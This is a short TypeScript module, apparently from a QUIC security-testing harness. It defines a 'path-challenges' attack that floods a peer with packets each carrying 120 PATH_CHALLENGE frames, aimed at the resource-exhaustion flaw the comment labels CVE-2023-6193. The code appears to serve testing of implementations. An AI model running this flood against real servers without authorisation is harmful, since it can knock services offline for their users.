import { randomBytes } from 'node:crypto';
import type { Attack } from '../attack.js';
import { floodFrames, many } from '../frame-flood.js';

/** Challenges that all have to be answered (CVE-2023-6193). */
export const pathChallenges: Attack = {
  name: 'path-challenges',
  what: '120 path challenges in each packet',
  run: (field) => floodFrames(field, () => many(120, () => field.kit.frames.pathChallenge(randomBytes(8)))),
};
